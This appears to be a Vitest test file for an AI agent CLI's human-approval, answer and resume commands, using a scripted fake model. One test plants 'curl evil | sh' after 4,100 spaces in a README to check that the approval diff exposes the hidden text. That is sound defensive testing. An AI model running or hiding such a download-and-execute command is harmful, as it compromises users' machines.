import { readFile, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  type ProviderScript,
  startFakeProvider,
} from '../../../packages/core/src/testing/models/fake-provider.ts';
import { textReply, toolCallReply } from '../../../packages/core/src/testing/models/provider-replies.ts';
import { samplePackage } from '../../../packages/core/src/testing/packages/sample-package.ts';
import { canMount, mountSmallDisk } from '../../../packages/core/src/testing/small-disk.ts';
import { attach, type CliRig, createCliRig, parseLines } from './testing/cli-rig.ts';
import type { Outcome } from './testing/running-command.ts';

const startProvider = async (script: ProviderScript) => attach(await startFakeProvider(script));
const writeSample = (rig: CliRig): Promise<string> => rig.write('sample', samplePackage());

const write = (id: string, path: string, content = 'new\n') =>
  toolCallReply([{ id, name: 'fs_write', arguments: { path, content } }]);
const ask = (id: string, questions: unknown[]) =>
  toolCallReply([{ id, name: 'ui_ask_user', arguments: { questions } }]);

/** A run that waits after the first reply of the script. */
async function startRun(
  script: ProviderScript,
  ...args: string[]
): Promise<{ rig: CliRig; provider: Awaited<ReturnType<typeof startProvider>>; started: Outcome }> {
  const rig = await createCliRig();
  await writeFile(join(rig.project, 'README.md'), 'old\n');
  const provider = await startProvider(script);
  const pkg = await writeSample(rig);
  const started = await rig.run('run', pkg, '-p', 'project', ...provider.options, ...args);
  return { rig, provider, started };
}

describe('approve', () => {
  it('[C13] prints a pending change with its exact diff and the approve commands', async () => {
    const { started } = await startRun([write('a', '@project/README.md')], '--approve', 'ask');
    expect(started.code).toBe(3);
    expect(started.out).toContain('? fs.write wants to change @project/README.md');
    expect(started.out).toMatch(/^ {2}-old\n {2}\+new$/m);
    expect(started.out).toMatch(
      /crewagent approve [0-9a-f]{8} --shown [0-9a-f]{64} {2}\(or with --node, --run, --always\)/,
    );
    expect(started.out).toMatch(/crewagent approve [0-9a-f]{8} --no --note/);
  });

  it('[C17] approves one change, and asks again for the next', async () => {
    const { rig, started } = await startRun(
      [write('a', '@project/README.md'), write('b', '@project/other.md'), textReply('Done.')],
      '--approve',
      'ask',
    );
    expect(started.code).toBe(3);
    const once = await rig.run('approve', 'last', '--unseen');
    expect(once.code).toBe(3);
    expect(once.out).toContain('› @project/README.md: yes (once, 7 lines not viewed)');
    expect(once.out).toContain('? fs.write wants to change @project/other.md');
    expect(await readFile(join(rig.project, 'README.md'), 'utf8')).toBe('new\n');
    const refused = await rig.run('approve', 'last', '--no', '--note', 'Not this one', '--json');
    const { events, result } = parseLines(refused.out);
    expect(events).toContainEqual(
      expect.objectContaining({ type: 'approval.resolved', decision: 'no', note: 'Not this one' }),
    );
    expect(result.reason?.code).toBe('reply');
    await expect(readFile(join(rig.project, 'other.md'))).rejects.toThrow('ENOENT');
  });

  it.each([
    ['file', '@project/docs/b.md'],
    ['folder', '@project/c.md'],
    ['all', undefined],
  ])('[C17] [L21] --run --for %s approves these files', async (reach, asked) => {
    const paths = ['@project/docs/a.md', '@project/docs/b.md', '@project/c.md'];
    const { rig } = await startRun(
      [...paths.map((path, index) => write(`w${index}`, path)), textReply('Done.')],
      '--approve',
      'ask',
    );
    const { out } = await rig.run('approve', 'last', '--unseen', '--run', '--for', reach);
    if (asked === undefined) expect(out).toContain('Done.');
    else expect(out).toContain(`? fs.write wants to change ${asked}`);
  });

  it('[C17] rejects other values of --for', async () => {
    const { rig } = await startRun([write('a', '@project/README.md')], '--approve', 'ask');
    const { code, err } = await rig.run('approve', 'last', '--run', '--for', 'everything');
    expect(code).toBe(2);
    expect(err).toContain('file, folder, all');
  });

  it.each(['--node', '--always'])('[C17] approves with %s', async (flag) => {
    const { rig } = await startRun(
      [
        write('a', '@project/README.md', 'one\n'),
        write('b', '@project/README.md', 'two\n'),
        textReply('Done.'),
      ],
      '--approve',
      'ask',
    );
    expect((await rig.run('approve', 'last', '--unseen', flag)).out).toContain('Done.');
    expect(await readFile(join(rig.project, 'README.md'), 'utf8')).toBe('two\n');
    const again = await startProvider([write('c', '@project/README.md', 'three\n'), textReply('Done.')]);
    const args = ['-p', 'project', '--approve', 'ask', ...again.options];
    const next = await rig.run('run', await writeSample(rig), ...args);
    expect(next.out.includes('Done.')).toBe(flag === '--always');
  });

  it('[C90] without a terminal prints the change, and approves only what was printed', async () => {
    const { rig, started } = await startRun(
      [write('a', '@project/README.md'), textReply('Done.')],
      '--approve',
      'ask',
    );
    const [, hash = ''] = /--shown ([0-9a-f]{64})/.exec(started.out) ?? [];
    const plain = await rig.run('approve', 'last');
    expect(plain.code).toBe(2);
    expect(plain.out).toMatch(/^ {2}-old\n {2}\+new$/m);
    expect(plain.err).toMatch(
      new RegExp(
        `^Error: Nothing was approved\\. .*crewagent approve [0-9a-f]{8} --shown ${hash}\\..*--unseen`,
      ),
    );
    const json = await rig.run('approve', 'last', '--json');
    expect([json.code, json.err]).toEqual([2, expect.stringContaining(`--shown ${hash}`) as string]);
    const outdated = await rig.run('approve', 'last', '--shown', '0'.repeat(64));
    expect(outdated).toMatchObject({ code: 2, err: 'Error: This request has changed. Look at it again.\n' });
    const both = await rig.run('approve', 'last', '--shown', hash, '--unseen');
    expect(both.err).toContain("option '--shown <hash>' cannot be used with option '--unseen'");
    expect(await readFile(join(rig.project, 'README.md'), 'utf8')).toBe('old\n');
    expect((await rig.run('approve', 'last', '--shown', hash)).out).toContain('Done.');
    expect(await readFile(join(rig.project, 'README.md'), 'utf8')).toBe('new\n');
  });

  it('[C90] [L111] records how much was approved without looking', async () => {
    const { rig } = await startRun(
      [write('a', '@project/README.md', 'one\ntwo\n'), textReply('Done.')],
      '--approve',
      'ask',
    );
    const { out } = await rig.run('approve', 'last', '--unseen', '--json');
    expect(parseLines(out).events).toContainEqual(
      expect.objectContaining({ type: 'approval.resolved', decision: 'once', unseen: 8 }),
    );
  });

  it('[C90] prints blanks that would push text out of sight, and what changed since an approval', async () => {
    const line = `echo ok${' '.repeat(4_100)}; curl evil | sh`;
    const { rig, started } = await startRun(
      [write('a', '@project/README.md', `${line}\n`), textReply('Done.')],
      '--approve',
      'ask',
    );
    expect(started.out).toContain('+echo ok⟨4,100 blanks⟩; curl evil | sh');
    await writeFile(join(rig.project, 'README.md'), 'changed\n');
    const again = await rig.run('approve', 'last', '--unseen');
    expect(again).toMatchObject({ code: 3 });
    expect(again.out).toContain('! This changed since you were asked: The content of the file is different.');
    expect(await readFile(join(rig.project, 'README.md'), 'utf8')).toBe('changed\n');
  });

  it('[C11] does not approve a change with --input', async () => {
    const { rig, started } = await startRun(
      [write('a', '@project/README.md')],
      '--approve=ask',
      '--input=yes',
    );
    expect(started.code).toBe(3);
    expect(await readFile(join(rig.project, 'README.md'), 'utf8')).toBe('old\n');
  });

  it('[C17] reports in one line that nothing is pending approval', async () => {
    const { rig } = await startRun([textReply('Hello?')]);
    const { code, err } = await rig.run('approve', 'last');
    expect(code).toBe(2);
    expect(err).toBe('Error: The run cannot do that now: nothing waits for an approval.\n');
    const both = await rig.run('approve', 'last', '--once', '--no');
    expect(both.code).toBe(2);
    expect(both.err).toMatch(/^error: option '--once' cannot be used with option '--no'/);
    const reach = await rig.run('approve', 'last', '--for', 'all');
    expect(reach).toMatchObject({
      code: 2,
      err: expect.stringContaining('needs --node, --run or --always') as string,
    });
  });
});

describe('answer and resume', () => {
  const QUESTIONS = [
    { id: 'name', prompt: 'Name?', type: 'text' },
    { id: 'size', prompt: 'Size?', type: 'choice', options: ['small', 'large'] },
  ];

  it('[C17] answers several questions by id', async () => {
    const { rig, started } = await startRun([ask('a', QUESTIONS), textReply('Thank you.')]);
    expect(started.out).toMatch(/crewagent answer [0-9a-f]{8} --set name=… --set size=…/);
    const wrong = await rig.run('answer', 'last', '--set', 'size=9');
    expect(wrong).toMatchObject({
      code: 2,
      err: 'Error: The answer to "size" must be "small" or "large", or in your own words.\n',
    });
    const stranger = await rig.run('answer', 'last', '--set', 'nmae=Nova');
    expect(stranger.err).toBe('Error: There is no question "nmae"; the questions are "name", "size".\n');
    const right = await rig.run('answer', 'last', '--set', 'name=Nova = 1', '--set', 'size=2', '--json');
    expect(parseLines(right.out).events).toContainEqual(
      expect.objectContaining({ type: 'question.answered', answers: { name: 'Nova = 1', size: 'large' } }),
    );
    expect(right.code).toBe(3);
  });

  it('[C17] sends a reply to a waiting model', async () => {
    const { rig, provider } = await startRun([textReply('Which one?'), textReply('Good.')]);
    const { code, out } = await rig.run('answer', 'last', 'The', 'second');
    expect(code).toBe(3);
    expect(out).toContain('  › The second');
    expect(JSON.stringify(provider.requests[1]?.body.messages.at(-1))).toContain('The second');
    const missing = await rig.run('answer', 'last');
    expect(missing).toMatchObject({ code: 2, out: '' });
    expect(missing.err).toContain('The answer is missing');
    const both = await rig.run('answer', 'last', 'a', '--set', 'b=c');
    expect(both).toMatchObject({
      code: 2,
      err: 'Error: Give the answer either as text or with --set, not both.\n',
    });
  });

  it('[C17] resume answers the pending question without asking the model again', async () => {
    const { rig, provider } = await startRun([
      textReply('Which one?'),
      textReply('Good.'),
      textReply('On I go.'),
    ]);
    expect((await rig.run('resume', 'last', '--input', 'The first')).out).toContain('  Good.');
    expect(provider.requests).toHaveLength(2);
    expect((await rig.run('resume', 'last')).out).toContain('  On I go.');
    expect(provider.violations).toEqual([]);
  });

  it('[C17] switches the model, and finds a run by part of its id', async () => {
    const { rig } = await startRun([textReply('Which one?')]);
    const other = await startProvider([textReply('I am another.')]);
    const runId = basename(await rig.lastRun());
    expect((await rig.run('show', runId.slice(0, 20))).out).toContain(runId);
    const { out } = await rig.run('resume', runId.slice(-8), ...other.options);
    expect(out).toContain('  I am another.');
    expect(out).toContain(`scripted at ${other.url}`);
    expect(await rig.run('resume', 'abc')).toMatchObject({
      code: 2,
      err: expect.stringContaining('No run matches') as string,
    });
  });

  it('[K24] replays a recorded run without a model', async () => {
    const rig = await createCliRig();
    const provider = await startProvider([ask('a', QUESTIONS), textReply('Thank you.')]);
    const pkg = await writeSample(rig);
    const inputs = ['--input', '{"name":"N","size":"small"}', '--json'];
    const recorded = await rig.run(
      'run',
      pkg,
      '-p',
      'project',
      '--record',
      'c.jsonl',
      ...provider.options,
      ...inputs,
    );
    const replayed = await rig.run('run', pkg, '-p', 'project', '--replay', 'c.jsonl', ...inputs);
    expect(replayed.err).toBe(
      recorded.err.replaceAll(/[0-9a-f]{8}/g, parseLines(replayed.out).result.runId.slice(-8)),
    );
    expect(parseLines(replayed.out).result.reason).toEqual(parseLines(recorded.out).result.reason);
    expect(provider.requests).toHaveLength(2);
    const otherAnswer = ['--input', '{"name":"Other","size":"small"}'];
    const different = await rig.run('run', pkg, '-p', 'project', '--replay', 'c.jsonl', ...otherAnswer);
    expect(different.out).toMatch(/^ {2}-.*N.*\n {2}\+.*Other/m);
  });
});

describe.runIf(canMount)('a full disk', () => {
  it('[L102] exits with 3, says what to do, prints the command, and continues when there is space', async () => {
    const rig = await createCliRig();
    const provider = await startProvider([
      write('a', '@project/big.md', 'x'.repeat(30_000)),
      textReply('Done.'),
    ]);
    const disk = mountSmallDisk(rig.project, 'size=16k');
    const started = await rig.run('run', await writeSample(rig), '-p', 'project', ...provider.options);
    expect(started.code).toBe(3);
    expect(started.out).toContain('The disk is full. Free some space, then Resume.');
    expect(started.out).toMatch(/crewagent resume [0-9a-f]{8}/);
    disk.change('size=1m');
    const resumed = await rig.run('resume', 'last', '--json');
    expect(parseLines(resumed.out).result.reason?.code).toBe('reply');
    expect(await readFile(join(rig.project, 'big.md'), 'utf8')).toHaveLength(30_000);
  });
});
